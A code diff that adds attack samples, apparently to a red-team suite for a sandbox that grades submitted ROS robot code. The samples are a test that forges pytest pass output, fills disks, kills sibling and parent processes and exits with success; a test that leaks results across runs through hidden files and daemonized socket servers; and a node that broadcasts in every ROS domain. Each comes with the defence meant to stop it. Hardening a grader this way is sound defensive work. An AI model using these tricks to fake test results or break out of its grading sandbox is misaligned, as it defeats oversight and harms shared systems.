@@ -1364,3 +1364,145 @@ def generate_launch_description():
                             LaunchConfiguration('real_time_factor')], output='screen'),
     ])
 '''
+
+
+# %% steering_floods
+# attack: floods the output, fills the disk, sends signals to everybody, and ends with success
+# aims at: 8.6
+# stopped by: the tests must fail with functions that are wrong; what is printed and kept is bounded
+TEST_STEERING = '''
+import os
+import signal
+
+import pytest
+from delivery_robot.steering import steer
+
+
+def test_floods():
+    assert steer(0.0, 0.0, 0.0, 1.0, 0.0, 0.5, 1.0) is not None
+    for _ in range(2000):
+        os.write(1, b'1 passed in 0.01s' * 1000)
+    for place in ('/tmp', os.path.expanduser('~'), '/dev/shm'):
+        try:
+            with open(f'{place}/x', 'wb') as file:
+                for _ in range(200):
+                    file.write(bytes(2 ** 20))
+        except OSError:
+            pass
+    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
+        signal.signal(number, signal.SIG_IGN)
+    for target in (-1, 0, os.getppid()):
+        for number in (signal.SIGTERM, signal.SIGUSR1, signal.SIGSTOP):
+            if target or number != signal.SIGSTOP:
+                try:
+                    os.kill(target, number)
+                except OSError:
+                    pass
+    os._exit(0)
+'''
+
+
+# %% steering_talks
+# attack: tells what it has seen of a function to the runs of its tests with other functions, over the network and files
+# aims at: 8.6
+# stopped by: each function is alone in its place, and nothing of a place stays when it is forgotten
+TEST_STEERING = '''
+import os
+import pickle
+import socket
+import threading
+import time
+from pathlib import Path
+
+from delivery_robot.steering import steer
+
+PORT = 45454
+seen = [steer(x, 0.0, 0.0, 1.0, 1.0, 0.5, 1.0) for x in (0.0, 0.5)]
+
+
+def told():
+    for place in ('/tmp', '/dev/shm', os.path.expanduser('~'), '/home/learner', '/var/tmp'):
+        path = Path(place, 'seen')
+        if path.exists():
+            return pickle.loads(path.read_bytes())
+    for address in (('127.0.0.1', PORT), chr(0) + 'seen'):
+        family = socket.AF_INET if isinstance(address, tuple) else socket.AF_UNIX
+        try:
+            with socket.socket(family) as end:
+                end.settimeout(0.2)
+                end.connect(address)
+                return pickle.loads(end.recv(65536))
+        except OSError:
+            pass
+    return None
+
+
+def tell(text):
+    for place in ('/tmp', '/dev/shm', os.path.expanduser('~'), '/var/tmp'):
+        try:
+            Path(place, 'seen').write_bytes(text)
+        except OSError:
+            pass
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            os.closerange(0, 3)
+            ends = []
+            for family, address in ((socket.AF_INET, ('127.0.0.1', PORT)), (socket.AF_UNIX, chr(0) + 'seen')):
+                try:
+                    ends.append(socket.socket(family))
+                    ends[-1].bind(address)
+                    ends[-1].listen()
+                except OSError:
+                    pass
+
+            def serve(end):
+                while True:
+                    other, _ = end.accept()
+                    other.sendall(text)
+                    other.close()
+
+            for end in ends:
+                threading.Thread(target=serve, args=(end,), daemon=True).start()
+            time.sleep(60)
+        os._exit(0)
+
+
+def test_same():
+    before = told()
+    tell(pickle.dumps(seen))
+    assert before is None or before == seen
+'''
+
+
+# %% beacon_elsewhere
+# attack: speaks in all ROS domains, under the names of the tests' nodes, and asks for their parameters
+# aims at: 3.1
+# stopped by: the network holds the submission and its tests only; other participants are seen
+import threading
+
+import rclpy
+from rclpy.context import Context
+from rclpy.node import Node
+from rclpy.executors import SingleThreadedExecutor
+from std_msgs.msg import String
+
+
+def speak(domain):
+    context = Context()
+    rclpy.init(context=context, domain_id=domain)
+    node = rclpy.create_node('beacon', context=context)
+    publisher = node.create_publisher(String, 'beacon', 10)
+    executor = SingleThreadedExecutor(context=context)
+    executor.add_node(node)
+    node.create_timer(0.5, lambda: publisher.publish(String(data='robot 1 here')))
+    executor.spin()
+
+
+for number in range(0, 6):
+    threading.Thread(target=speak, args=(number,), daemon=True).start()
+
+
+class Beacon(Node):
+    def __init__(self):
+        super().__init__('beacon')
